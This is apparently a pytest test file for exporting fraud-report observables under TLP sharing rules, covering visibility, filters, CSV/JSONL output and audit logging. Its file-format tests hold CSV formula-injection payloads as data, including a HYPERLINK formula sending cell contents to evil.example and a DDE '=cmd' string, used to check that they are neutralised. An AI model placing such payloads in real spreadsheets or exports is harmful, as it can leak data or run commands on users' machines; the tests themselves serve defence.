"""Exports of observables: each organisation gets exactly what visibility gives it, the
filters narrow that, every row carries its effective marking, and the files parse back.

The world: the operator (the national contact point) received a phishing report shared
with all partners at TLP:GREEN, in which the victim's own account is marked as such; an
investment fraud report shared at TLP:AMBER; and three reports that never leave it, one
TLP:RED, one from a confidential reporter and one not shared at all.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from crex.accounts.models import Organisation, User
from crex.audit.models import AuditEvent
from crex.core.tlp import TLP
from crex.reports.models import Observable, Report, ReportObservable
from crex.sharing.exports import (
    COLUMNS,
    ExportFilters,
    ExportFormat,
    ExportRow,
    InvalidFilters,
    export_filename,
    export_rows,
    neutralise,
    parse_filters,
    record_export,
    write_csv,
    write_jsonl,
)
from tests.correlation.conftest import Ingest, file_report, ingest

__all__ = ["file_report", "ingest"]

MULE = "NL91ABNA0417164300"
VICTIM = "NL39RABO0300065264"
INVESTMENT = "GB82WEST12345698765432"
RED = "DE89370400440532013000"
CONFIDENTIAL = "NL02ABNA0521637812"
UNSHARED = "NL81RABO0312345678"
PHONE = "+4915123456789"
SHOP = "https://fake-shop.example.com/pay"
NEVER_OUTSIDE = {RED, CONFIDENTIAL, UNSHARED}
OUTSIDERS = ["cert_analyst", "bank_partner", "foreign_analyst"]


def _file(ingest: Ingest, narrative: str, **handling: object) -> Report:
    report = ingest(narrative)
    Report.objects.filter(pk=report.pk).update(**handling)
    report.refresh_from_db()
    return report


@pytest.fixture
def world(ingest: Ingest, operator: Organisation) -> dict[str, Report]:
    """The operator's reports described in the module docstring."""
    phishing = _file(
        ingest,
        f"I paid 450 EUR from my account {VICTIM} to {MULE} after a call from "
        f"+49 151 23456789 about hxxps://fake-shop[.]example[.]com/pay.",
        offence="phishing",
        category="traditional",
        tlp="green",
        distribution="partners",
    )
    ReportObservable.objects.filter(report=phishing, observable__value=VICTIM).update(
        role=ReportObservable.Role.VICTIM_ASSET
    )
    ReportObservable.objects.filter(report=phishing, observable__value=MULE).update(
        role=ReportObservable.Role.PAYEE_ACCOUNT
    )
    investment = _file(
        ingest,
        f"The trading platform took my savings: transfers to {INVESTMENT}.",
        offence="investment_fraud",
        category="traditional",
        tlp="amber",
        distribution="partners",
        received_at=datetime(2024, 1, 15, 9, 30, tzinfo=UTC),
    )
    return {
        "phishing": phishing,
        "investment": investment,
        "red": _file(ingest, f"Paid to {RED}.", tlp="red", distribution="organisation"),
        "confidential": _file(
            ingest, f"Paid to {CONFIDENTIAL}.", confidential=True, distribution="partners"
        ),
        "unshared": _file(ingest, f"Paid to {UNSHARED}."),
    }


def values(viewer: Organisation | User, filters: ExportFilters | None = None) -> set[str]:
    return {row.value for row in export_rows(viewer, filters or ExportFilters())}


def test_the_operator_exports_every_observable_of_its_reports(
    world: dict[str, Report], police_analyst: User
) -> None:
    assert {MULE, VICTIM, INVESTMENT, PHONE, SHOP, *NEVER_OUTSIDE} <= values(police_analyst)


@pytest.mark.parametrize("persona", OUTSIDERS)
def test_red_confidential_and_unshared_reports_never_reach_another_organisation(
    world: dict[str, Report], persona: str, request: pytest.FixtureRequest
) -> None:
    outsider = request.getfixturevalue(persona)
    exported = values(outsider)
    assert {MULE, INVESTMENT, PHONE, SHOP} <= exported
    assert not exported & NEVER_OUTSIDE


@pytest.mark.parametrize("persona", OUTSIDERS)
def test_the_victims_own_identifiers_stay_inside(
    world: dict[str, Report], persona: str, request: pytest.FixtureRequest
) -> None:
    assert VICTIM not in values(request.getfixturevalue(persona))


def test_victim_identifiers_marked_shareable_go_out(
    world: dict[str, Report], cert_analyst: User
) -> None:
    Report.objects.filter(pk=world["phishing"].pk).update(share_victim_identifiers=True)
    assert VICTIM in values(cert_analyst)


def test_an_organisation_without_users_exports_as_itself(
    world: dict[str, Report], cert: Organisation, operator: Organisation
) -> None:
    assert not values(cert) & NEVER_OUTSIDE
    assert values(operator) >= NEVER_OUTSIDE


def test_nobody_exports_nothing(world: dict[str, Report]) -> None:
    assert list(export_rows(None, ExportFilters())) == []


def test_a_row_carries_the_report_and_the_observable(
    world: dict[str, Report], cert_analyst: User
) -> None:
    (row,) = export_rows(cert_analyst, ExportFilters(types=("iban",), offence="investment_fraud"))
    assert row == ExportRow(
        type="iban",
        value=INVESTMENT,
        display="GB82 WEST 1234 5698 7654 32",
        role="mentioned",
        tlp="amber",
        report=world["investment"].reference,
        offence="investment_fraud",
        category="traditional",
        received_at="2024-01-15T09:30:00Z",
        first_seen=row.first_seen,
        country="GB",
        asn=None,
        as_name="",
    )
    assert row.first_seen.endswith("Z")
    assert datetime.fromisoformat(row.first_seen).tzinfo is not None


def test_rows_come_oldest_report_first(world: dict[str, Report], police_analyst: User) -> None:
    received = [row.received_at for row in export_rows(police_analyst, ExportFilters())]
    assert received == sorted(received)
    assert received[0] == "2024-01-15T09:30:00Z"


def test_small_chunks_give_the_same_rows(world: dict[str, Report], police_analyst: User) -> None:
    whole = list(export_rows(police_analyst, ExportFilters()))
    assert list(export_rows(police_analyst, ExportFilters(), chunk_size=2)) == whole


# -- filters --------------------------------------------------------------------------


def test_types_narrow_the_export(world: dict[str, Report], police_analyst: User) -> None:
    rows = list(export_rows(police_analyst, ExportFilters(types=("phone-number", "url"))))
    assert {row.type for row in rows} == {"phone-number", "url"}
    assert {row.value for row in rows} == {PHONE, SHOP}


def test_the_offence_narrows_the_export(world: dict[str, Report], police_analyst: User) -> None:
    rows = list(export_rows(police_analyst, ExportFilters(offence="phishing")))
    assert rows
    assert {row.report for row in rows} == {world["phishing"].reference}


def test_since_keeps_reports_received_at_or_after(
    world: dict[str, Report], police_analyst: User
) -> None:
    since = datetime(2024, 1, 15, 9, 30, tzinfo=UTC)
    assert INVESTMENT in values(police_analyst, ExportFilters(since=since))
    later = values(police_analyst, ExportFilters(since=datetime(2024, 1, 16, tzinfo=UTC)))
    assert INVESTMENT not in later
    assert MULE in later


def test_the_role_narrows_the_export(world: dict[str, Report], police_analyst: User) -> None:
    assert values(police_analyst, ExportFilters(role="payee_account")) == {MULE}
    assert values(police_analyst, ExportFilters(role="victim_asset")) == {VICTIM}


def test_the_tlp_filter_keeps_markings_up_to_the_level(
    world: dict[str, Report], police_analyst: User
) -> None:
    green = values(police_analyst, ExportFilters(tlp=TLP.GREEN))
    assert MULE in green
    assert INVESTMENT not in green
    amber = values(police_analyst, ExportFilters(tlp=TLP.AMBER))
    assert {MULE, INVESTMENT, CONFIDENTIAL, UNSHARED} <= amber
    assert RED not in amber
    assert RED in values(police_analyst, ExportFilters(tlp=TLP.RED))
    assert values(police_analyst, ExportFilters(tlp=TLP.CLEAR)) == set()


def test_the_effective_marking_is_the_stricter_of_report_and_observable(
    world: dict[str, Report], police_analyst: User, cert_analyst: User
) -> None:
    links = ReportObservable.objects.filter(report=world["phishing"])
    links.filter(observable__value=PHONE).update(tlp="amber+strict")
    links.filter(observable__value=MULE).update(tlp="clear")  # looser than the report
    rows = {row.value: row for row in export_rows(police_analyst, ExportFilters())}
    assert rows[PHONE].tlp == "amber+strict"
    assert rows[MULE].tlp == "green"
    assert rows[SHOP].tlp == "green"  # blank: as the report
    assert PHONE not in values(cert_analyst, ExportFilters(tlp=TLP.AMBER))
    assert PHONE in values(cert_analyst, ExportFilters(tlp=TLP.AMBER_STRICT))


def test_an_observable_marked_red_stays_inside(
    world: dict[str, Report], police_analyst: User, cert_analyst: User
) -> None:
    ReportObservable.objects.filter(report=world["phishing"], observable__value=PHONE).update(
        tlp="red"
    )
    assert PHONE not in values(cert_analyst)
    assert PHONE in values(police_analyst)


def test_text_filters_parse() -> None:
    filters = parse_filters(
        types=["IBAN", "url", "iban", " "],
        offence="Phishing",
        since="2025-03-01",
        tlp="TLP:AMBER+STRICT",
        role="payee_account",
    )
    assert filters == ExportFilters(
        types=("iban", "url"),
        offence="phishing",
        since=datetime(2025, 3, 1, tzinfo=UTC),
        tlp=TLP.AMBER_STRICT,
        role="payee_account",
    )
    assert parse_filters() == ExportFilters()
    assert parse_filters(since="2025-03-01T10:00").since == datetime(2025, 3, 1, 10, tzinfo=UTC)
    assert parse_filters(tlp="white").tlp is TLP.CLEAR


def test_bad_filters_are_named_one_by_one() -> None:
    with pytest.raises(InvalidFilters) as caught:
        parse_filters(
            types=["iban", "fax"], offence="burglary", since="2025-13-01", tlp="purple", role="boss"
        )
    errors = caught.value.errors
    assert set(errors) == {"type", "offence", "since", "tlp", "role"}
    assert "fax" in errors["type"]
    assert "burglary" in errors["offence"]
    assert "YYYY-MM-DD" in errors["since"]
    assert "purple" in errors["tlp"]


# -- files ----------------------------------------------------------------------------

HOSTILE = ExportRow(
    type="user-account",
    value='=HYPERLINK("http://evil.example/?"&A1,"click")',
    display="@SUM(1+1)",
    role="offender_account",
    tlp="green",
    report="CR-2025-0000001-7",
    offence="phishing",
    category="traditional",
    received_at="2025-03-01T10:00:00Z",
    first_seen="2025-03-01T10:00:00Z",
    country="",
    asn=64500,
    as_name='-Example, "Net"\nLine two',
)


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(prefix: str) -> None:
    assert neutralise(f"{prefix}1+1") == f"'{prefix}1+1"


def test_harmless_cells_stay_as_they_are() -> None:
    assert neutralise("https://a.example/?x=1") == "https://a.example/?x=1"
    assert neutralise("") == ""


def test_csv_is_rfc_4180_with_a_header_and_parses_back() -> None:
    text = "".join(write_csv([HOSTILE]))
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    (row,) = parse_csv(text)
    assert row["value"] == "'" + HOSTILE.value
    assert row["display"] == "'@SUM(1+1)"
    assert row["as_name"] == '\'-Example, "Net"\nLine two'
    assert row["asn"] == "64500"
    assert row["country"] == ""
    assert row["received_at"] == "2025-03-01T10:00:00Z"


def test_an_empty_export_is_just_the_header() -> None:
    assert "".join(write_csv([])) == ",".join(COLUMNS) + "\r\n"
    assert "".join(write_jsonl([])) == ""


def test_json_lines_carry_values_unchanged() -> None:
    lines = list(write_jsonl([HOSTILE, HOSTILE]))
    assert len(lines) == 2
    assert all(line.endswith("\n") and line.count("\n") == 1 for line in lines)
    assert json.loads(lines[0]) == HOSTILE._asdict()


def test_an_exported_phone_number_opens_as_text_in_a_spreadsheet(
    world: dict[str, Report], police_analyst: User
) -> None:
    rows = export_rows(police_analyst, ExportFilters(types=("phone-number",)))
    (row,) = parse_csv("".join(write_csv(rows)))
    assert row["value"] == "'" + PHONE
    (line,) = write_jsonl(export_rows(police_analyst, ExportFilters(types=("phone-number",))))
    assert json.loads(line)["value"] == PHONE


def test_a_hostile_value_in_a_report_is_neutralised_in_the_file(
    world: dict[str, Report], police_analyst: User
) -> None:
    observable = Observable.objects.create(type="user-account", value="=cmd|' /C calc'!A0")
    ReportObservable.objects.create(
        report=world["unshared"], observable=observable, role="offender_account"
    )
    rows = parse_csv("".join(write_csv(export_rows(police_analyst, ExportFilters()))))
    assert "'=cmd|' /C calc'!A0" in {row["value"] for row in rows}
    assert not any(row[name].startswith("=") for row in rows for name in COLUMNS)


def test_formats_name_their_files() -> None:
    day = datetime(2025, 3, 1).date()
    assert export_filename(ExportFormat.CSV, day) == "crex-observables-2025-03-01.csv"
    assert export_filename(ExportFormat.JSONL, day) == "crex-observables-2025-03-01.jsonl"
    assert ExportFormat.CSV.content_type.startswith("text/csv")
    assert list(ExportFormat.JSONL.write([HOSTILE])) == list(write_jsonl([HOSTILE]))


def test_an_export_is_audited_with_its_filters(police_analyst: User) -> None:
    filters = ExportFilters(types=("iban",), tlp=TLP.AMBER)
    record_export(
        police_analyst.organisation,
        filters,
        ExportFormat.CSV,
        via="workspace",
        actor=police_analyst,
    )
    event = AuditEvent.objects.get(action="observables.exported")
    assert event.actor == police_analyst
    assert event.organisation == police_analyst.organisation
    assert event.changes == {
        "filters": {"types": ["iban"], "tlp": "amber"},
        "format": "csv",
        "via": "workspace",
    }
